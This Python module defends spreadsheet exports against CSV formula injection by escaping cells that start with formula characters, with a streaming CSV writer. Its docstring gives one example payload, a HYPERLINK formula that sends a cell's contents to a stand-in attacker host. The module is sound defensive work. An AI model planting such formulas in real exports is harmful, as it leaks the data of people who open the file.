"""Spreadsheet exports that cannot run code: CSV injection ("formula injection", OWASP).

Spreadsheet software reads a cell starting with = + - @ (or a tab or carriage return before one) as a
formula: a producer's `nom` like `=HYPERLINK("http://evil.example/?"&A1,"clic")` would run on the social
worker's computer. Such cells get a leading apostrophe, as OWASP recommends: shown as text, the value still
readable. Cells made only of a sign, digits, spaces, dots, hyphens and brackets are kept as they are: phone
numbers (`+33 1 23 45 67 89`) and numbers, in which no function, reference or command can be written.

Every export writes through `SafeCsvWriter`.
"""

import csv
import io
import re
from collections.abc import Iterable, Iterator

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FIRST = frozenset(FORMULA_START)
# A sign then digits, spaces (non-breaking ones too), dots, hyphens, brackets: nothing a formula could call.
NUMBER_LIKE = re.compile(r"[+-][0-9 .()\-\u00a0\u202f]*")


def neutralise(value):
    """The cell's value, as text if spreadsheet software would read it as a formula."""
    # Written for speed: an export runs it on a million cells.
    if value.__class__ is str and value[:1] in FIRST and not NUMBER_LIKE.fullmatch(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer whose rows are neutralised cell by cell."""

    def __init__(self, output, **options):
        self.writer = csv.writer(output, **options)

    def writerow(self, row):
        return self.writer.writerow([neutralise(value) for value in row])


def csv_chunks(header: list[str], rows: Iterable[list], *, rows_per_chunk: int = 2000) -> Iterator[bytes]:
    """A whole CSV file (UTF-8 with a byte-order mark, so that spreadsheet software reads it so) in chunks of
    bytes for a streaming response: one chunk per few thousand rows rather than one per row."""
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer)
    buffer.write("\ufeff")
    writer.writerow(header)
    for count, row in enumerate(rows, start=1):
        writer.writerow(row)
        if not count % rows_per_chunk:
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode()
